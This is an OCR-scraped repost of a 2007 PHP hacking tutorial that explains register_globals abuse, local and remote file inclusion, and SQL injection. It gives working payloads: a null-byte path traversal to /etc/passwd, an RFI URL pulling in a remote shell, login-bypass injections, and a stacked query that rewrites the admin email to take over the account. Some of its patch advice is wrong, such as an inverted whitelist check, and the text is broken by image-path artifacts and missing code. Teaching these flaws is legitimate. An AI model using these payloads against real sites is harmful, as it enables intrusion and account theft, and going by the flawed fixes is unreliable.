PHP Underground Security

来源:Tr4c3’s blog

———[ ]———

-[ INFOS ]———–

Title: “PHP Undergroud Security”
Author: Omnipresent
E-Mail: [email protected][email protected]
Website: –
Date: 2007-04-12


-[ SUMMARY ]———

0x00: Let’s start..
0x01: Global Variables, look it carefully
[*] Patching0x02: File Inclusion
[*] Patching
0x03: XSS
0x04: SQL Injection
\_ 0x04a: Login Bypass
\_ 0x04b: 1 Query? No.. 2 one!
[*] Patching
0x05: File Traverse
[*] Patching
0x05: Conclusion


—[ 0x00: Let’s start.. ]Hello to everybody, first of all I’m sorry for my poor english but is not my
mother language.

In this tutorial I will explain the PRINCIPALES PHP mistake; how to find it,
how to exploit it and at the end, how to patch it!

Have fun!


—[ 0x01: Global Variables, look it carefully]

In PHP you don’t have to declare a variable and this is a great thing for a
programmer; the variables will be created “automatically” when you have to use it.
Great thing you are thinking.. Yes, but sometimes.
PHP, as we know, often take an input from the users, and it will process it. If we
have never delcared a varible before using it maybe we can have some problem concerning
the Security of our Web Application. For example, take a look of the follow piece of code:


if ($is_admin == 1) {
//Yes, I’m the admin so call the Administration Pannel
} else {
//No, I’m not the admin

Ok, as we can see $is_admin is never delcared before being used, so if we can pass
this variable to this PHP script (BUGGED) maybe we can have unauthorized access to
the Administration Pannel. Yes, but how to gain Admin Credential Rights? Simple:


—[ Patching ]—

How to patch this bug? Simple and quickly: DECLARE $is_admin before the IF
statement; like it:

$is_admin = 0;


if ($is_admin== 1) {
//Yes, I’m the admin so call the Administration Pannel} else {
//No, I’m not the admin


—[ 0x02: File Inclusion]

—–[ Local File Inclusion]

PHP is a great language,powerful and simple; but you must take a look to your
code if you don’t want Security Issue in your codes.
In many situations is great thing the use dynamic includes, where the part of the
pathname is stored in a variable. For example, take the following example:

include “/users/”.$include_path.”.php”;

The $include_path is not declared before being used so, an attacker can put
tainted data in this variable and include some other files like /etc/passwd..
For example, a user can EASILY view another file by modifying the value of the
include_path in the URL. For example:


The result of this inclusion will be:

include “/users/../../../../etc/passwd%00.php”

So a malicious user can see all stored passwords in the server.

– [ NOTE ] –

%00, what’s that? Simple, it means a NULL CHAR that “delete” the PHP extension.
If we omit this NULL Byte we will be able to display ONLY .php files because
the extension included is PHP (include “/users/”.$include_path.”.PHP”)


—–[ Remote File Inclusion]

Take a look of the following code:





As we can see, $page is not validated before being used so a malicious user could
include or call (as you prefer to say) his script via the browser and gain access
to the machine or view, as before, a file.Example one: (gain access to the machine)

http://remote_host/inc.php?pag=[Evil Script – our shell located on our server]

Example two: (view files)


—[ Patching ]—

The solution? validate the input. One of lots of methods to validate inputs
would be to create a list of acceptable pages as shown below:$pag = $_GET[‘pag’];

$pages = array(‘index.php’, ‘alfa.php’, ‘beta.php’, ‘gamma.php’);

if(in_array($pag, $pages))
die(“Hacking Attempt!”);



—[ 0x03: XSS]

Hey, do you wanna know somethings about XSS?

My partner has done a great work about XSS and it’s useless to write the same things
so, take a look of:

[+] “Cross-Site Scripting for Fun and Profit”

[+] “Applying XSS to Phishing Attacks”—[ 0x03: SQL Injection]

With SQL Injection, as the name said, you can inject SQL Code in the query string
of a bugged web application.

——[ 0x04b Login Bypass ]

Before starting with an elegant :D example we must know some things about SQL:

– (‘) apex? What’s that? In the SQL Statement this is an operator and for us
(Attacker part) this is very important for the exloiting of some vulnerabilities.
It delimit the strings..

– (#) Comments? Right :D with this ‘#’ (without apex) it means that in the SQL
Statement we are trying to made a comment. Take it in your mind because it very
useful and important!

– (;) It means that we made a new query on the DataBase.. easyOk, after a little break on useful operands (for hacking.. right :D) we can made
the first example: Login Bypass – Gain Admin Credential Rights

// login.php

$nick = $_POST[‘nick’];
$pass = $_POST[‘pass’];

$link = mysql_connect(‘localhost’, ‘root’, ‘root’) or die(‘Error: ‘.

mysql_select_db(“sql_inj”, $link);

$query = mysql_query(“SELECT * FROM sql_inj WHERE nick ='”.$nick.”‘ AND pass ='” .$pass. “‘”,

if (mysql_num_rows($query) == 0) {
echo ““;

$logged = 1;This script is very simple but very useful to learn somethings about SQL Injection.
As we can see the variables $nick and $pass are not properly sanitized before
being used in the SQL query, so we can inject our code.. our SQL code!

Take a look ofthe query:

“SELECT * FROM sql_inj WHERE nick ='”.$nick.”‘ AND pass ='” .$pass. “‘”

What happends if we pass two variables tainted like these:

$nick = 1’ OR ‘1’ = ‘1
$pass = 1’ OR ‘1’ = ‘1

The new query will be:

“SELECT * FROM sql_inj WHERE nick =’1 OR ‘1’ = ‘1’ AND pass =’1′ OR ‘1’ = ‘1’”mmh.. clear? not? ok let me made clarity..

If you know something about truth tables you do not have problems to understand..

1 OR 1 = 1 ??

one OR one is equal to one ? Yeees obvious!!!

So, who is the first user in the table ‘sql_inj’?
Maybe who installed the Web Application? Yes! The Admin :D

So, we are logged in as the first user and the first user is the Admin so..
we are the Admin ;) Cool right?

We can put also this query string:

$nick = 1′ OR ‘1’ = ‘1’ #
$pass = what_we_want_to_put

The new query will be:

“SELECT * FROM sql_inj WHERE nick =’1 OR ‘1’ = ‘1’ # AND pass = what_we_want_to_put”

As we said before the ‘#’ it means that what it has after it’s a comment! The
NEWEST :D query is:

“SELECT * FROM sql_inj WHERE nick =’1 OR ‘1’ =‘1’

and… we are again the Admin :D

——[ 0x04b: 1 Query? No.. 2 one! ]

With SQL Injection we can modify the query and we can insert new dates, update
users profiles and much more.. Let’s look this source code:



$email = $_POST[’email’];


$query = mysql_query(“SELECT email, passwd, user_name FROM users WHERE email =


Oh oh oh.. what we have here? $email variable is not properly sanitized before
being used.. great!! We can exploit it and.. for example update
DataBase informations easily by putting in the variable something like this:

$email = x’; UPDATE usersSET email = ‘[email protected]
WHERE email = ‘[email protected] ‘;

and the new query will be:

SELECT email, passwd, user_name FROM users
WHERE email = ‘ x’; UPDATE users SET email = ‘[email protected]
WHERE email = ‘[email protected] ‘;

Here the attacker has updated the ‘users’ table, in particular in the admin email
field, with his email. So, with the script, for example, “Forgot your password?”
he can pass his email ([email protected] in this case :D) and receive an
email like the follow:

From: [email protected]
To: [email protected]
Subject: Login Password

Ehy.. take it ;)

Username: Admin
Password: 12345


—[ Patching ]—

First of all, for patching the scripts we can choose to make some cool modification
on php.ini file:

1. set magic_quotes_gcp to OnIt will insert escape characters before the apex (‘) hold in:

2. use addslashes()
It will quote the string with the slashes ‘/’

3. htmlspecialchars()
It will converts special chars in HTML entity

4. mysql_escape_string()
Escape a string used in mysql_query

5. Look for more functions ;)

6. Validate the input passed from the user, like the example below:

$user_id = (int)$_GET[‘user_id’];

$user_id is always an integer and we can cast the input for securing
our web applications.


—[ 0x05: File Traverse ]Trasversing the filesystem is a really important and critical bug; and a little
explaination of this bug is the minimum that I can made :D

Whenever we use a file we must indicate the filename and the filepath at some
point in our scripts. In many cases, the filename is an argument passed by the
